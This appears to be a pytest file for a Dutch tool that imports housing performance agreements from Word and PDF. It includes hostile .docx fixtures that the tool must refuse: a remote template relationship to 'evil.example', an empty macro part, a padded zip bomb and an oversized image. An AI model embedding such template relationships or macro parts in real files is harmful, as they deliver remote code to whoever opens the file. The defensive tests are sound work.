"""``prestatie import agreements``: hostile files refused, Word headings and numbered lists,
round trips through our own PDFs (Assen and the Part-2 project)."""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner, Result
from tests.projects import REPO, copy_assen

from prestatie_build.cli import cli
from prestatie_build.core import NOTE, Article, consolidate, layout_text
from prestatie_build.sources import join_broken_line, load_project, read_document

PART2 = REPO / "tests" / "data" / "part2"


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


# --- hostile and broken files: refused with a located Dutch message, exit 1, nothing written ---


def _docx_bytes() -> bytes:
    document = docx.Document()
    document.add_heading("Prestatieafspraken 2022-2025 Teststad", 0)
    document.add_heading("Wonen", 1)
    document.add_heading("Afspraak 1", 2)
    document.add_paragraph("De gemeente bouwt.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _with_parts(extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
    """A valid docx with parts added (or replaced)."""
    source = zipfile.ZipFile(io.BytesIO(_docx_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = (replace or {}).get(item.filename, source.read(item.filename))
            target.writestr(item.filename, data)
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def _external_relationship() -> bytes:
    source = zipfile.ZipFile(io.BytesIO(_docx_bytes()))
    rels = source.read("word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>',
    )
    return _with_parts({}, {"word/_rels/document.xml.rels": rels})


def _macros() -> bytes:
    source = zipfile.ZipFile(io.BytesIO(_docx_bytes()))
    types = source.read("[Content_Types].xml").replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return _with_parts({"word/vbaProject.bin": b"\0" * 100}, {"[Content_Types].xml": types})


def _zip_bomb() -> bytes:
    return _with_parts({"word/media/bomb.xml": b"<a/>" + b" " * (30 * 1024 * 1024)})


def _big_image() -> bytes:
    import os

    return _with_parts({"word/media/image1.png": os.urandom(50 * 1024 * 1024)})


HOSTILE = {
    "zip bomb": (_zip_bomb, "P52", "zipbom"),
    "external relationship": (_external_relationship, "P525", "evil.example"),
    "macros": (_macros, "P524", "macro"),
    "50 MB image": (_big_image, "P523", "20 MB"),
    "encrypted (OLE container)": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000,
        "P521",
        "wachtwoord",
    ),
    "not a zip": (lambda: b"hello, I am no Word file", "P520", "geen Word-bestand"),
    "damaged zip": (lambda: b"PK\x03\x04" + b"\0" * 200, "P520", "beschadigd"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_or_broken_docx_is_refused_cleanly(tmp_path: Path, name: str) -> None:
    make, code, words = HOSTILE[name]
    source = tmp_path / "in.docx"
    source.write_bytes(make())
    into = tmp_path / "project"
    result = run("import", "agreements", str(source), "--into", str(into))
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert f"{source.as_posix()}: error: " in result.output
    assert words in result.output
    assert not into.exists()
    with pytest.raises(Exception) as caught:
        read_document(source)
    assert caught.value.diagnostics[0].code.startswith(code)  # type: ignore[attr-defined]


def test_an_encrypted_pdf_is_refused(tmp_path: Path) -> None:
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    source = tmp_path / "in.pdf"
    pdf.save(source, encryption=pikepdf.Encryption(owner="o", user=""))
    result = run("import", "agreements", str(source), "--into", str(tmp_path / "p"))
    assert result.exit_code == 1
    assert "de PDF is beveiligd" in result.output
    assert not (tmp_path / "p").exists()


def test_another_kind_of_file_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "afspraken.txt"
    source.write_text("Afspraak 1", encoding="utf-8")
    result = run("import", "agreements", str(source), "--into", str(tmp_path / "p"))
    assert result.exit_code == 1
    assert "importeer een Word-bestand (.docx) of een PDF-bestand (.pdf)" in result.output


def test_a_hyperlink_is_allowed_and_kept_as_text(tmp_path: Path) -> None:
    """A hyperlink is an external relationship Word never fetches by itself: not refused."""
    source = zipfile.ZipFile(io.BytesIO(_docx_bytes()))
    rels = source.read("word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://assen.nl" TargetMode="External"/>'
        b"</Relationships>",
    )
    path = tmp_path / "in.docx"
    path.write_bytes(_with_parts({}, {"word/_rels/document.xml.rels": rels}))
    assert [p.text for p in read_document(path)][-1] == "De gemeente bouwt."


# --- Word: heading styles and numbered lists --------------------------------------------------


def _word_agreements(path: Path) -> None:
    document = docx.Document()
    document.add_heading("Meerjarige Prestatieafspraken 2023-2026 Teststad", 0)
    document.add_heading("Partijen", 1)
    document.add_paragraph("Gemeente Teststad: De heer A. Jansen, wethouder")
    document.add_paragraph("Woonstichting Test: Mevrouw B. de Vries, directeur-bestuurder")
    document.add_heading("Betaalbaarheid", 1)
    document.add_paragraph(
        "De gemeente en de corporatie houden de huren laag.", style="List Number"
    )
    document.add_paragraph("De corporatie helpt bij betalingsachterstanden.", style="List Number")
    document.add_heading("Wonen en zorg", 1)
    document.add_heading("Afspraak 7", 2)
    lead = document.add_paragraph()
    lead.add_run("Ouderen:").bold = True
    lead.add_run(" partijen bouwen geclusterde woningen.")
    document.add_paragraph("in Assen-Oost;", style="List Bullet")
    document.add_paragraph("in Kloosterveen.", style="List Bullet")
    table = document.add_table(rows=2, cols=2)
    for row, cells in enumerate((("Jaar", "Woningen"), ("2024", "25"))):
        for column, text in enumerate(cells):
            table.cell(row, column).text = text
    document.add_heading("Tijdlijn", 2)
    document.add_paragraph("Partijen overleggen elk voorjaar.")
    document.save(str(path))


def test_a_word_document_with_headings_and_numbered_lists_imports(tmp_path: Path) -> None:
    source = tmp_path / "afspraken.docx"
    _word_agreements(source)
    into = tmp_path / "project"
    result = run("import", "agreements", str(source), "--into", str(into))
    assert result.exit_code == 0, result.output
    assert "0 fouten" in result.output
    project = load_project(into)
    document = project.document
    assert document.title == "Meerjarige Prestatieafspraken 2023-2026 Teststad"
    assert (document.period.start, document.period.end) == (2023, 2026)
    assert [(p.name, p.representative, p.role) for p in document.parties] == [
        ("Gemeente Teststad", "De heer A. Jansen", "wethouder"),
        ("Woonstichting Test", "Mevrouw B. de Vries", "directeur-bestuurder"),
    ]
    chapters = {chapter.id: chapter for chapter in document.chapters}
    assert list(chapters) == ["betaalbaarheid", "wonen-en-zorg"]
    numbers = [(a.number, a.blocks[0].text) for a in chapters["betaalbaarheid"].articles]
    assert numbers == [
        ("1", "De gemeente en de corporatie houden de huren laag."),
        ("2", "De corporatie helpt bij betalingsachterstanden."),
    ]
    care = {a.number or a.id: a for a in chapters["wonen-en-zorg"].articles}
    assert [b.text for b in care["7"].blocks] == [
        "**Ouderen:** partijen bouwen geclusterde woningen.",
        "- in Assen-Oost;\n- in Kloosterveen.",
        "| Jaar | Woningen |\n|---|---|\n| 2024 | 25 |",
    ]
    assert care["tijdlijn"].title == "Tijdlijn"
    report = (into / "import-report.md").read_text(encoding="utf-8")
    assert "Alles is geplaatst." in report


def test_import_never_overwrites(tmp_path: Path) -> None:
    source = tmp_path / "afspraken.docx"
    _word_agreements(source)
    into = copy_assen(tmp_path / "assen")
    before = (into / "agreements" / "document.yaml").read_bytes()
    result = run("import", "agreements", str(source), "--into", str(into))
    assert result.exit_code == 1
    assert "agreements/document.yaml: error: het bestand bestaat al" in result.output
    assert (into / "agreements" / "document.yaml").read_bytes() == before
    assert not (into / "import-report.md").exists()


def test_a_document_without_agreements_is_an_error(tmp_path: Path) -> None:
    document = docx.Document()
    document.add_paragraph("Alleen een alinea.")
    source = tmp_path / "leeg.docx"
    document.save(str(source))
    result = run("import", "agreements", str(source), "--into", str(tmp_path / "p"))
    assert result.exit_code == 1
    assert "geen afspraak of onderdeel herkend" in result.output


@pytest.mark.parametrize(
    ("line", "following", "joined"),
    [
        ("van de kwaliteits-", "kortingsgrens", "van de kwaliteitskortingsgrens"),
        ("acceptabele wacht-", "en zoektijden", "acceptabele wacht- en zoektijden"),
        ("voegen 10-", "15 extra", "voegen 10-15 extra"),
        ("een regel", "en de volgende", "een regel en de volgende"),
    ],
)
def test_a_word_broken_at_a_line_end_is_joined(line: str, following: str, joined: str) -> None:
    assert join_broken_line(line, following) == joined


# --- round trips through our own PDF ----------------------------------------------------------


def _blocks(root: Path, year: int) -> Iterator[tuple[str, str]]:
    """(where, rendered text) of every block, goal and document of ``root`` in ``year``."""
    document = consolidate(load_project(root), year).document

    for chapter in document.chapters:  # sub-chapters included, in document order
        for goal in chapter.goals:
            yield chapter.title, " ".join(layout_text(goal.text).split())
        for article in chapter.articles:
            yield from _article_blocks(article)
    for item in document.documents:
        yield "documents", _words(item.text)


def _article_blocks(article: Article) -> Iterator[tuple[str, str]]:
    if article.deleted is not None:
        return
    for block in article.blocks:
        yield article.number or article.title, _words(block.text)


def _words(markdown: str) -> str:
    """A block's rendered words; a footnote's number is the output's (counted per document,
    here per block; an unreferenced definition shows its label), so only its place counts."""
    return re.sub(f"{NOTE}\\w+", NOTE, " ".join(layout_text(markdown).split()))


def _round_trip(tmp_path: Path, root: Path, year: int) -> tuple[float, list[str], str]:
    out = tmp_path / "build"
    built = run(
        "--root", str(root), "build", "--year", str(year), "--format", "pdf", "--out", str(out)
    )
    assert built.exit_code == 0, built.output
    into = tmp_path / "imported"
    imported = run(
        "import", "agreements", str(out / f"prestatieafspraken-{year}.pdf"), "--into", str(into)
    )
    assert imported.exit_code == 0, imported.output
    start = load_project(into).document.period.start
    original = [text for _, text in _blocks(root, year)]
    again = [text for _, text in _blocks(into, start)]
    missing = [text for text in original if text not in again]
    extra = [text for text in again if text not in original]
    assert not extra, extra
    share = 1 - len(missing) / len(original)
    return share, missing, (into / "import-report.md").read_text(encoding="utf-8")


@pytest.mark.pdf
@pytest.mark.slow
def test_assen_2024_pdf_imports_to_the_same_blocks(tmp_path: Path) -> None:
    share, missing, _ = _round_trip(tmp_path, copy_assen(tmp_path / "assen"), 2024)
    assert share == 1.0, missing


@pytest.mark.pdf
@pytest.mark.slow
def test_the_part2_pdf_imports_to_the_same_blocks_the_rest_reported(tmp_path: Path) -> None:
    root = tmp_path / "part2"
    shutil.copytree(PART2, root)
    share, missing, report = _round_trip(tmp_path, root, 2025)
    # The map of agreement 7 cannot come back from a PDF: it is the one block missing, and the
    # report says where it was.
    assert [text for text in missing if "Kaart" not in text] == []
    assert "pagina 4: afbeelding: zet die zelf bij de afspraak" in report
    assert share >= 0.96
